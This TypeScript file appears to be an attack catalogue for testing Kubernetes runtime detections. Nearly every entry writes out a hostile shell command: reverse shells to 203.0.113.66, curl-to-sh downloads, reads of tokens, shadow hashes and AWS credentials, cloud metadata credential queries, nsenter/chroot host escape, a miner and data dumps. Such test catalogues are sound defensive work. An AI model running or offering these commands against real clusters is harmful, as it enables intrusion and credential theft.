import type { Attack, Exec } from './attack.ts';

const tokenFile = '/var/run/secrets/kubernetes.io/serviceaccount/token';

function exec(
  id: string,
  what: string,
  rows: readonly string[],
  script: string,
  rest: Partial<Exec> & Pick<Attack, 'least' | 'unfit'> = {},
): Attack {
  const { least = 'medium', unfit, ...deed } = rest;
  return { id, what, rows, least, deed: { does: 'exec', script, ...deed }, ...(unfit === undefined ? {} : { unfit }) };
}

/** Commands in containers of others. */
export const execAttacks: readonly Attack[] = [
  exec('exec-in-pod', 'runs a command in a pod', ['D041'], 'ls /app', { least: 'low' }),
  exec('attach-to-pod', 'attaches to a running container', ['D041'], '', { least: 'low', subresource: 'attach', interactive: true }),
  exec('exec-in-system-pod', 'runs a command in kube-system', ['D042'], 'ls /', {
    least: 'medium',
    namespace: 'kube-system',
    pod: 'coredns-66bc5c9577-hntp6',
  }),
  exec('exec-in-security-pod', 'runs a command where the sensor runs', ['D042'], 'ls /', {
    least: 'medium',
    namespace: 'falco',
    pod: 'falco-8s7kd',
  }),
  exec('interactive-shell', 'opens a shell with a terminal', ['D050'], 'bash', { least: 'low', interactive: true, unfit: ['timeout'] }),
  exec('reverse-shell-dev-tcp', 'has a shell call home', ['D044'], 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1', { least: 'high' }),
  exec('reverse-shell-netcat', 'has netcat serve a shell', ['D044'], 'nc 203.0.113.66 4444 -e /bin/sh', { least: 'high' }),
  exec(
    'reverse-shell-fifo',
    'pipes a shell through netcat',
    ['D044'],
    'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.66 4444 > /tmp/f',
    {
      least: 'high',
    },
  ),
  exec('reverse-shell-socat', 'gives a terminal away with socat', ['D044'], 'socat TCP:203.0.113.66:4444 EXEC:/bin/sh,pty,stderr', {
    least: 'high',
  }),
  exec(
    'reverse-shell-python',
    'has Python call home',
    ['D044'],
    "python3 -c \"import socket,os,pty;s=socket.socket();s.connect(('203.0.113.66',4444));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn('/bin/sh')\"",
    { least: 'high' },
  ),
  exec('download-to-shell', 'downloads a script and runs it', ['D045'], 'curl -fsSL http://203.0.113.66/i.sh | sh'),
  exec('download-file', 'downloads a program', ['D045'], 'wget -q -O /tmp/x http://203.0.113.66/x', { path: 'http://203.0.113.66/x' }),
  exec('package-installed', 'installs tools from the network', ['D045'], 'apk add --no-cache curl bind-tools', { least: 'low' }),
  exec('token-read', "reads the pod's token", ['D046'], `cat ${tokenFile}`, { path: tokenFile }),
  exec(
    'pod-identity-token-read',
    "reads the pod's token for IAM",
    ['D046'],
    'cat /var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token',
    {
      path: '/var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token',
    },
  ),
  exec('shadow-read', 'reads password hashes', ['D046'], 'cat /etc/shadow', { path: '/etc/shadow' }),
  exec('aws-credentials-read', 'reads AWS credentials', ['D046'], 'cat /root/.aws/credentials', { path: '/root/.aws/credentials' }),
  exec('environment-of-process-read', 'reads the environment of process 1', ['D046'], 'cat /proc/1/environ', { path: '/proc/1/environ' }),
  exec('kubelet-key-read', "reads the node's kubelet files", ['D046'], 'cat /var/lib/kubelet/kubeconfig', {
    path: '/var/lib/kubelet/kubeconfig',
  }),
  exec(
    'metadata-asked',
    "asks for the node's credentials",
    ['D047'],
    'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    {
      path: '169.254.169.254',
    },
  ),
  exec('pod-identity-agent-asked', "asks for the pod's AWS credentials", ['D047'], 'wget -qO- http://169.254.170.23/v1/credentials', {
    path: '169.254.170.23',
  }),
  exec(
    'credential-uri-asked',
    'asks where the environment says credentials are',
    ['D047'],
    'curl -s -H "Authorization: $(cat $AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE)" $AWS_CONTAINER_CREDENTIALS_FULL_URI',
  ),
  exec('host-entered', 'leaves the container for the host', ['D048'], 'nsenter -t 1 -m -u -i -n sh', { least: 'high' }),
  exec('host-chroot', 'changes into the mounted host', ['D048'], 'chroot /host', { least: 'high', path: '/host' }),
  exec('pspy-run', 'watches processes', ['D048'], '/tmp/pspy64 -pf -i 1000', { path: '/tmp/pspy64' }),
  exec('network-scanned', 'scans for hosts', ['D048'], 'nmap -sT -p 10250 10.0.0.0/16'),
  exec('miner-run', 'mines', ['D048'], './xmrig -o pool.example.net:3333 -u wallet'),
  exec('tar-to-stdout', 'copies a folder out', ['D049'], 'tar cf - /app/data', { least: 'low', path: '/app/data' }),
  exec('base64-to-stdout', 'copies a dump out', ['D049'], 'base64 /backup/shop.sql.gz', { least: 'low', path: '/backup/shop.sql.gz' }),
];
